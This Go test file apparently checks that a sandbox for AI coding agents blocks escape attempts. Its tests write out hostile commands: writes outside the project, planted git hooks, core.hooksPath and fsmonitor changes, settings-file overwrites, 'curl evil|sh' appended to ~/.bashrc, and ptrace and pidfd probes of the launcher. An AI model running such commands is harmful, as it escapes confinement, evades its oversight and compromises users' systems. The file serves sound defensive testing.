package sandbox

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// The model is the attacker: each of these command lines tries to create a
// file outside the project, by a different route. None may succeed; the
// same routes inside the project work.
func TestHostileWritesOutsideCreateNothing(t *testing.T) {
	e := newEnv(t, Config{})
	target := func(name string) string { return filepath.Join(e.outside, name) }
	lines := map[string]string{
		"redirect":         `echo pwned > ` + target("redirect"),
		"append":           `echo pwned >> ` + target("append"),
		"touch":            `touch ` + target("touch"),
		"cp":               `echo x > in.txt; cp in.txt ` + target("cp"),
		"mv":               `echo x > mv.txt; mv mv.txt ` + target("mv"),
		"python":           `python3 -c 'open("` + target("python") + `", "w").write("x")'`,
		"hidden expansion": `x='a[$(touch ` + target("expansion") + `)]'; echo $((x))`,
		"cd ..":            `cd .. && cd outside && touch cd-up`,
		"tee":              `echo x | tee ` + target("tee"),
		"mkdir":            `mkdir ` + target("mkdir"),
		"symlink":          `ln -s ` + e.outside + ` link && touch link/via-link`,
		"hardlink trick":   `ln ` + target("x") + ` hard 2>/dev/null; touch hard`,
		"script file":      `printf '#!/bin/sh\ntouch ` + target("script") + `\n' > s.sh && chmod +x s.sh && ./s.sh`,
		"sh -c":            `sh -c 'touch ` + target("shc") + `'`,
		"rename dir":       `mkdir d && mv d ` + target("renamed"),
		"home":             `touch ` + filepath.Join(e.home, "dotfile"),
		"bashrc":           `echo 'curl evil|sh' >> ~/.bashrc`,
		"dd":               `dd if=/dev/zero of=` + target("dd") + ` bs=1 count=1`,
	}
	for name, line := range lines {
		t.Run(name, func(t *testing.T) {
			out, _ := e.bash(e.project, line)
			entries, _ := os.ReadDir(e.outside)
			for _, en := range entries {
				t.Errorf("%q created %s outside the project\n%s", line, en.Name(), out)
			}
			homeEntries, _ := os.ReadDir(e.home)
			for _, en := range homeEntries {
				if en.Name() != ".cache" {
					t.Errorf("%q created %s in the home directory\n%s", line, en.Name(), out)
				}
			}
		})
	}
	// A configured project (its settings directories exist), where the
	// top level takes new directories: TestMissingSettingsDirs covers one
	// that is not.
	for _, d := range settingsDirs {
		if err := os.Mkdir(filepath.Join(e.project, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	inside := filepath.Join(e.project, "sub")
	out, code := e.bash(e.project, `mkdir sub && echo a > sub/a && cp sub/a sub/b && python3 -c 'open("sub/c","w").write("c")' && mv sub/b sub/d && echo ok`)
	if code != 0 {
		t.Fatalf("writes inside the project failed (exit %d):\n%s", code, out)
	}
	for _, f := range []string{"a", "c", "d"} {
		if _, err := os.Stat(filepath.Join(inside, f)); err != nil {
			t.Errorf("sub/%s missing: %v", f, err)
		}
	}
}

// Inside a writable tree, git hooks and config, settings and hook scripts
// stay read-only, by every route.
func TestProtectedPathsReadOnly(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	project := filepath.Join(root, "project")
	gitInit(t, project)
	hook := filepath.Join(project, "tools", "check.sh")
	writeFile(t, hook, "#!/bin/sh\nexit 0\n")
	writeFile(t, filepath.Join(project, ".cohort", "settings.json"), "{}\n")
	e := newEnv(t, Config{Protected: []string{hook}})
	for _, line := range []string{
		`echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`,
		`git config core.hooksPath /tmp`,
		`echo '[core] fsmonitor = "touch /tmp/pwned"' >> .git/config`,
		`mv .git/config .git/config.bak`,
		`python3 -c 'open(".git/config","a").write("x")'`,
		`echo '{"hooks":{}}' > .cohort/settings.json`,
		`echo '{}' > .cohort/settings.local.json`,
		`mkdir -p .claude && echo '{}' > .claude/settings.json`,
		`echo 'touch /tmp/pwned' >> tools/check.sh`,
		`rm -rf .git/hooks`,
		`umount .git/hooks`,
	} {
		out, _ := e.bash(project, line)
		t.Logf("%s\n%s", line, out)
	}
	if data, _ := os.ReadFile(filepath.Join(project, ".git", "config")); strings.Contains(string(data), "fsmonitor") || strings.Contains(string(data), "hooksPath") {
		t.Errorf(".git/config was changed:\n%s", data)
	}
	if _, err := os.Stat(filepath.Join(project, ".git", "config")); err != nil {
		t.Errorf(".git/config is gone: %v", err)
	}
	if _, err := os.Stat(filepath.Join(project, ".git", "hooks", "pre-commit")); err == nil {
		t.Errorf("a git hook was written")
	}
	if data, _ := os.ReadFile(filepath.Join(project, ".cohort", "settings.json")); string(data) != "{}\n" {
		t.Errorf(".cohort/settings.json was changed: %q", data)
	}
	for _, f := range []string{".cohort/settings.local.json", ".claude/settings.json"} {
		if _, err := os.Stat(filepath.Join(project, f)); err == nil {
			t.Errorf("%s was created", f)
		}
	}
	if data, _ := os.ReadFile(hook); strings.Contains(string(data), "pwned") {
		t.Errorf("the hook script was changed")
	}
	// The main checkout's git dir is read-only whole (issue 36: a command
	// could otherwise add .git/commondir or .git/hooks, which no bind
	// mount can cover before they exist), so a commit there fails; git
	// status still works. Agents commit in worktrees
	// (TestWorktreeAgentCommitsButCannotWriteMainCheckout).
	out, code := e.bash(project, `echo change > f.txt && git status --short && git add f.txt && git commit -qm "from the sandbox"`)
	if code == 0 || !strings.Contains(out, "?? f.txt") || !strings.Contains(out, "index.lock") {
		t.Errorf("git in the main checkout: status should work and a commit fail on the read-only git dir (exit %d):\n%s", code, out)
	}
	if log := run(t, project, "git", "log", "--oneline"); strings.Contains(log, "from the sandbox") {
		t.Errorf("a commit landed in the main checkout: %s", log)
	}
}

// An agent in a linked worktree commits there, and cannot write the main
// checkout by any route.
func TestWorktreeAgentCommitsButCannotWriteMainCheckout(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	main := filepath.Join(root, "project")
	gitInit(t, main)
	wt := filepath.Join(main, ".cohort", "worktrees", "agent")
	run(t, main, "git", "worktree", "add", "-q", "-b", "cohort/agent", wt)
	e := newEnv(t, Config{})
	mainFile := filepath.Join(main, "pwned")
	for _, line := range []string{
		`touch ` + mainFile,
		`cd ../../.. && touch pwned`,
		`python3 -c 'open("` + mainFile + `","w").write("x")'`,
		`printf '#!/bin/sh\ntouch ` + mainFile + `\n' > s.sh && chmod +x s.sh && ./s.sh`,
		`echo x >> ` + filepath.Join(main, "README.md"),
		`git -C ` + main + ` commit --allow-empty -qm escape`,
		`echo 'touch /tmp/x' > ` + filepath.Join(main, ".git", "hooks", "post-commit"),
		`git config --file ` + filepath.Join(main, ".git", "config") + ` core.hooksPath /tmp`,
	} {
		out, _ := e.bash(wt, line)
		t.Logf("%s\n%s", line, out)
	}
	if _, err := os.Stat(mainFile); err == nil {
		t.Errorf("the worktree agent wrote the main checkout")
	}
	if data, _ := os.ReadFile(filepath.Join(main, "README.md")); string(data) != "hello\n" {
		t.Errorf("README.md in the main checkout changed: %q", data)
	}
	if log := run(t, main, "git", "log", "--oneline", "main"); strings.Contains(log, "escape") {
		t.Errorf("a commit landed on main: %s", log)
	}
	if _, err := os.Stat(filepath.Join(main, ".git", "hooks", "post-commit")); err == nil {
		t.Errorf("a hook was written in the shared git dir")
	}
	out, code := e.bash(wt, `echo work > w.txt && git add w.txt && git commit -qm "worktree commit" && git log --oneline -1`)
	if code != 0 || !strings.Contains(out, "worktree commit") {
		t.Fatalf("git commit in the worktree failed (exit %d):\n%s", code, out)
	}
	if log := run(t, main, "git", "log", "--oneline", "cohort/agent"); !strings.Contains(log, "worktree commit") {
		t.Errorf("the worktree's branch lacks the commit: %s", log)
	}
}

func gitInit(t *testing.T, dir string) {
	t.Helper()
	writeFile(t, filepath.Join(dir, "README.md"), "hello\n")
	run(t, dir, "git", "init", "-q", "-b", "main")
	run(t, dir, "git", "add", ".")
	run(t, dir, "git", "commit", "-qm", "initial")
}

func run(t *testing.T, dir string, name string, args ...string) string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), name, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
}

// A command inherits no descriptor of Cohort's or the launcher's beyond
// its three standard streams: the launcher's connection (fd 3 in the
// launcher) least of all, in a confined and in an unconfined launcher.
func TestCommandsInheritOnlyStdio(t *testing.T) {
	for _, cfg := range []Config{{}, {Unconfined: true}} {
		e := newEnv(t, cfg)
		out, code := e.bash(e.project, `ls /proc/$$/fd; true`)
		if code != 0 {
			t.Fatalf("unconfined %v: exit %d\n%s", cfg.Unconfined, code, out)
		}
		if got := strings.Fields(out); strings.Join(got, " ") != "0 1 2" {
			t.Errorf("unconfined %v: the command holds descriptors %q, want only 0 1 2", cfg.Unconfined, got)
		}
	}
}

// TestCommandsCannotTraceTheLauncher: a command is forked from a thread of
// the launcher, in the same Landlock domain and with the same uid; tracing
// it (PTRACE_SEIZE) or taking its descriptors (pidfd_getfd) would let the
// command run code in the launcher's unconfined threads or talk to Cohort.
// Both fail, in each profile.
func TestCommandsCannotTraceTheLauncher(t *testing.T) {
	e := newEnv(t, Config{})
	// Each thread of the launcher (its policy threads share the command's
	// Landlock domain; the others are in none).
	probe := `python3 - $PPID <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
for tid in sorted(int(t) for t in os.listdir("/proc/%d/task" % pid)):
    r = libc.ptrace(0x4206, tid, 0, 0)
    print("seize", tid, r, ctypes.get_errno())
    if r == 0:
        libc.ptrace(0x11, tid, 0, 0)  # PTRACE_DETACH
fd = libc.syscall(434, pid, 0)
g = libc.syscall(438, fd, 0, 0) if fd >= 0 else -1
print("getfd", fd, g, ctypes.get_errno())
PY`
	for _, prof := range []Profile{ReadOnly, Writing} {
		e.profile = prof
		out, _ := e.bash(e.project, probe)
		seized := regexp.MustCompile(`seize (\d+) (-?\d+) (\d+)`).FindAllStringSubmatch(out, -1)
		if len(seized) == 0 {
			t.Fatalf("profile %v: the probe tried no thread:\n%s", prof, out)
		}
		for _, m := range seized {
			if m[2] != "-1" || m[3] != "1" {
				t.Errorf("profile %v: a command could trace its launcher's thread %s (PTRACE_SEIZE returned %s, errno %s; want -1 EPERM)", prof, m[1], m[2], m[3])
			}
		}
		var fd, got, errno int
		if _, err := fmt.Sscanf(out[strings.Index(out, "getfd"):], "getfd %d %d %d", &fd, &got, &errno); err != nil {
			t.Fatalf("profile %v: no getfd line: %v\n%s", prof, err, out)
		}
		if got != -1 || (fd >= 0 && errno != 1) {
			t.Errorf("profile %v: a command could take its launcher's descriptors (pidfd_open %d, pidfd_getfd %d, errno %d; want -1 EPERM)", prof, fd, got, errno)
		}
	}
}
